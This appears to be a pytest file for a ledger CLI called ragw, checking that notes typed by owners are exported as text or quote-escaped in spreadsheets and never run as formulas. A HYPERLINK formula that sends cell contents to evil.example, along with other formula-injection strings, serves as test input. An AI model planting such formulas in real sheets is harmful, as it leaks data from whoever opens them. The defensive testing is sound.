"""Sheets that cannot be turned against their readers: what an owner typed is shown as
text in every .xlsx and .csv ragw writes, never run as a formula, and comes back exactly
when ragw reads its own file; a tracker's formulas are read as the values saved with
them, and one saved without a value is a bad row naming its cell; an update sheet's
formula is a bad row naming its cell, saved value or not."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from cli.main import main
from ledger.exchange.cells import escaped, runs_as_formula
from tests.office import LibreOffice, required_soffice
from tests.trackers import seed_tracker, write_xlsx

OWNER = "DCI Crime"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
#: Notes an owner might type, each on an item of its own.
NOTES = [
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "'=1+1",  # the owner's own quote before a formula
    "''-2",
    "'tis done",  # a quote before plain text is written as it is
    "#N/A",  # openpyxl would store it as an error
    "Policy published",
]
#: What a spreadsheet shows for a formula it ran: its value, or a link's label.
COMPUTED = {"2", "Click for details", "#NAME?", "Err:508", "#N/A!"}


def run(db: str, *args: str, code: int = 0, actor: str = "Strategic Development") -> str:
    result = CliRunner().invoke(main, ["--db", db, "--actor", actor, *args])
    assert result.exit_code == code, (result.output, result.stderr if code == 0 else "")
    return result.stdout if code == 0 else result.stderr


def noted(db: str) -> dict[str, str]:
    """The demo ledger with each of NOTES noted on an open item of OWNER: key -> note."""
    run(db, "demo", "--format", "json")
    items = json.loads(run(db, "board", "--format", "json"))["items"]
    open_keys = [i["key"] for i in items if i["status"] in ("AMBER", "RED")]
    notes = dict(zip(open_keys, NOTES, strict=False))
    for key, note in notes.items():
        run(db, "assign", key, OWNER)
        run(db, "note", key, "--", note)
    return notes


def xlsx_cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    return [
        cell
        for sheet in load_workbook(path).worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def xlsx_column(path: Path, column: str) -> dict[str, Any]:
    from openpyxl import load_workbook

    sheet = load_workbook(path).worksheets[0]
    header = [c.value for c in sheet[1]]
    return {
        row[0]: row[header.index(column)] for row in sheet.iter_rows(min_row=2, values_only=True)
    }


def csv_column(rows: list[list[str]], column: str) -> dict[str, str]:
    header = rows[0]
    return {row[0]: row[header.index(column)] for row in rows[1:] if row}


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


# Written: text cells, escaped CSV --------------------------------------------------------


def test_every_note_is_a_text_cell_in_the_board_and_the_update_sheet(
    target: str, tmp_path: Path
) -> None:
    notes = noted(target)
    board, sheet = tmp_path / "board.xlsx", tmp_path / "crime.xlsx"
    run(target, "export", "--out", str(board))
    run(target, "requests", "--owner", OWNER, "--out", str(sheet))
    for path, column in ((board, "comment"), (sheet, "last comment")):
        cells = xlsx_cells(path)
        assert [c.coordinate for c in cells if c.data_type != "s" and c.value is not None] == []
        shown = xlsx_column(path, column)
        assert {key: shown[key] for key in notes} == notes
        prefixed = {c.value for c in cells if c.quotePrefix}
        assert prefixed == {n for n in NOTES if runs_as_formula(n)}, "Excel keeps them text"


def test_a_csv_board_writes_a_formula_start_behind_a_quote(target: str, tmp_path: Path) -> None:
    notes = noted(target)
    board = tmp_path / "board.csv"
    run(target, "export", "--out", str(board))
    written = csv_column(read_csv(board), "comment")
    assert {key: written[key] for key in notes} == {
        key: ("'" + note if re.match(r"'*[=+\-@]", note) else note) for key, note in notes.items()
    }
    hyperlinked = next(k for k, n in notes.items() if n == HYPERLINK)
    history = list(csv.reader(run(target, "history", hyperlinked, "--format", "csv").splitlines()))
    assert "'" + HYPERLINK in history[-1], "a read's --format csv on stdout alike"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_ragws_own_export_imports_back_to_every_note_byte_for_byte(
    target: str, tmp_path: Path, suffix: str
) -> None:
    notes = noted(target)
    board = tmp_path / f"board{suffix}"
    run(target, "export", "--out", str(board))
    elsewhere = str(tmp_path / "elsewhere.db")
    run(elsewhere, "import", str(board))
    items = json.loads(run(elsewhere, "board", "--format", "json"))["items"]
    assert {i["key"]: i["comment"] for i in items if i["key"] in notes} == notes
    assert run(target, "import", str(board)).endswith("0 events recorded\n"), "nothing changed"


# Read: formulas as their saved values ----------------------------------------------------


def with_saved_value(path: Path, cell: str, value: str | None, *, error: bool = False) -> Path:
    """``path`` with the formula in ``cell`` saved with ``value`` (as Excel saves it), or
    with no value at all (as openpyxl writes one)."""
    with zipfile.ZipFile(path) as book:
        parts = {name: book.read(name) for name in book.namelist()}
    name = "xl/worksheets/sheet1.xml"
    xml = parts[name].decode()
    pattern = re.compile(f'<c r="{cell}"([^>]*)><f>(.*?)</f><v ?/?>(?:</v>)?</c>')
    assert pattern.search(xml), xml
    kind = ' t="e"' if error else ' t="str"'
    saved = "" if value is None else f"<v>{value}</v>"
    parts[name] = pattern.sub(
        lambda m: f'<c r="{cell}"{m[1]}{kind}><f>{m[2]}</f>{saved}</c>', xml
    ).encode()
    with zipfile.ZipFile(path, "w") as book:
        for part, data in parts.items():
            book.writestr(part, data)
    return path


def formula_tracker(path: Path) -> Path:
    """The seed tracker with formulas on line 3 (text, H3) and line 5 (comment, K5)."""
    path.parent.mkdir(parents=True, exist_ok=True)
    rows = seed_tracker()
    rows[1] = {**rows[1], "text": '="Publish the "&"fraud policy"'}
    rows[3] = {**rows[3], "comment": '=CONCATENATE("Awaiting ","the board")'}
    return write_xlsx(path, rows)


def test_a_workbook_formula_imports_as_the_value_saved_with_it(target: str, tmp_path: Path) -> None:
    tracker = formula_tracker(tmp_path / "t.xlsx")
    with_saved_value(tracker, "H3", "Publish the fraud policy")
    with_saved_value(tracker, "K5", "Awaiting the board")
    run(target, "import", str(tracker), "--on", "2019-11-15")
    items = json.loads(run(target, "board", "--as-at", "2019-11-15", "--format", "json"))
    shown = {i["key"]: i for i in items["items"]}
    rows = seed_tracker()
    assert shown[f"{rows[1]['report_code']}/{rows[1]['ref']}"]["text"] == "Publish the fraud policy"
    assert shown[f"{rows[3]['report_code']}/{rows[3]['ref']}"]["comment"] == "Awaiting the board"


def test_a_workbook_formula_saved_without_a_value_refuses_the_import_naming_its_cell(
    target: str, tmp_path: Path
) -> None:
    tracker = formula_tracker(tmp_path / "t.xlsx")
    with_saved_value(tracker, "K5", "#REF!", error=True)  # H3 keeps no value
    run(
        target,
        "report",
        "add",
        "KEEP",
        "--title",
        "t",
        "--scope",
        "force",
        "--published",
        "2019-01-01",
    )
    before = run(target, "log", "--format", "json")
    message = run(target, "import", str(tracker), "--on", "2019-11-15", code=1)
    assert message.startswith("Error: t.xlsx has 2 bad rows and nothing was recorded")
    assert message.count("\n") == 1
    assert "line 3: cell H3 holds a formula with no saved value; open the file in Excel" in message
    assert "line 5: cell K5 holds a formula whose saved value is the error #REF!" in message
    assert run(target, "log", "--format", "json") == before


def test_an_update_sheet_formula_is_refused_naming_its_cell_saved_value_or_not(
    target: str, tmp_path: Path
) -> None:
    """A saved value is what a spreadsheet shows only until it calculates again: whoever
    checks the sheet may see something else (or nothing), so the value itself is typed."""
    from openpyxl import load_workbook

    notes = noted(target)
    key = next(iter(notes))
    sheet = tmp_path / "crime.xlsx"
    run(target, "requests", "--owner", OWNER, "--out", str(sheet))
    book = load_workbook(sheet)
    header = [c.value for c in book.worksheets[0][1]]
    row = next(r for r in book.worksheets[0].iter_rows(min_row=2) if r[0].value == key)
    cell = row[header.index("progress note")]
    cell.value = '="Training "&"delivered"'
    book.save(sheet)
    events = len(json.loads(run(target, "log", "--format", "json"))["events"])
    said = f'line {cell.row}: cell {cell.coordinate} holds a formula (="Training "&"delivered")'
    message = run(target, "apply", str(sheet), code=1)
    assert message.startswith("Error: crime.xlsx has 1 bad row and nothing was recorded")
    assert f"{said}; type the value itself" in message
    with_saved_value(sheet, cell.coordinate, "Training delivered")
    assert said in run(target, "apply", str(sheet), code=1)
    assert len(json.loads(run(target, "log", "--format", "json"))["events"]) == events


# Opened in LibreOffice: nothing runs ------------------------------------------------------
# Files only, so one store is enough (the tests above run on both).


@pytest.fixture(scope="module")
def libreoffice(tmp_path_factory: pytest.TempPathFactory) -> LibreOffice:
    return LibreOffice(required_soffice(), tmp_path_factory.mktemp("libreoffice-profile"))


def test_libreoffice_runs_a_formula_in_a_csv_cell_that_is_not_escaped(
    libreoffice: LibreOffice, tmp_path: Path
) -> None:
    """The check below can fail: LibreOffice does run what a bare CSV cell says."""
    bare = tmp_path / "bare.csv"
    bare.write_text(f'key,comment\nA,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\nB,=1+1\n')
    assert libreoffice.shown(bare, tmp_path / "shown") == [
        ["key", "comment"],
        ["A", "Click for details"],
        ["B", "2"],
    ]


def test_libreoffice_shows_every_note_as_text_in_every_sheet_ragw_writes(
    libreoffice: LibreOffice, tmp_path: Path
) -> None:
    db = str(tmp_path / "ragw.db")
    notes = noted(db)
    files = {"board.xlsx": "comment", "board.csv": "comment", "crime.xlsx": "last comment"}
    run(db, "export", "--out", str(tmp_path / "board.xlsx"))
    run(db, "export", "--out", str(tmp_path / "board.csv"))
    run(db, "requests", "--owner", OWNER, "--out", str(tmp_path / "crime.xlsx"))
    for name, column in files.items():
        shown = libreoffice.shown(tmp_path / name, tmp_path / "shown" / name)
        in_column = csv_column(shown, column)
        if name.endswith(".xlsx"):
            assert {key: in_column[key] for key in notes} == notes, name
        else:  # the quote that keeps it text shows, as in any spreadsheet
            assert {key: in_column[key] for key in notes} == {
                key: escaped(note) for key, note in notes.items()
            }, name
        assert not COMPUTED & set(in_column.values()), name


def test_libreoffice_shows_a_leading_tab_or_carriage_return_as_text(
    libreoffice: LibreOffice, tmp_path: Path
) -> None:
    """ragw trims what it records, so these come only from elsewhere; written, they
    are text all the same, and ragw reads its own CSV back to them."""
    from cli.sheets import write_csv, write_xlsx
    from ledger.exchange.tracker import _csv_lines

    texts = ["\t=1+1", "\r=1+1", "\t@SUM(A1)", "\r+1+1", "\t-2", "'\t=1+1"]
    rows = [[str(i), text] for i, text in enumerate(texts)]
    write_csv(tmp_path / "cells.csv", ["n", "text"], rows)
    write_xlsx(tmp_path / "cells.xlsx", ["n", "text"], rows, title="Cells")
    assert [line.values[1] for line in _csv_lines(tmp_path / "cells.csv")][1:] == texts
    in_csv = libreoffice.shown(tmp_path / "cells.csv", tmp_path / "shown-csv")
    in_xlsx = libreoffice.shown(tmp_path / "cells.xlsx", tmp_path / "shown-xlsx")
    # (LibreOffice reads a carriage return in a CSV cell as a line break: text still)
    assert [row[1] for row in in_csv[1:]] == [escaped(t).replace("\r", "\n") for t in texts]
    assert [row[1] for row in in_xlsx[1:]] == texts


def test_a_workbook_libreoffice_calculated_imports_with_the_values_it_saved(
    libreoffice: LibreOffice, tmp_path: Path
) -> None:
    db = str(tmp_path / "ragw.db")
    written = formula_tracker(tmp_path / "written" / "tracker.xlsx")
    (saved,) = libreoffice.convert([written], "xlsx", tmp_path / "saved")
    run(db, "import", str(saved), "--on", "2019-11-15")
    items = json.loads(run(db, "board", "--as-at", "2019-11-15", "--format", "json"))["items"]
    texts = {i["text"] for i in items} | {i["comment"] for i in items}
    assert {"Publish the fraud policy", "Awaiting the board"} <= texts
    unsaved = tmp_path / "unsaved.xlsx"
    unsaved.write_bytes(written.read_bytes())
    message = run(str(tmp_path / "other.db"), "import", str(unsaved), "--on", "2019-11-15", code=1)
    assert "line 3: cell H3 holds a formula with no saved value" in message
    assert "line 5: cell K5 holds a formula with no saved value" in message
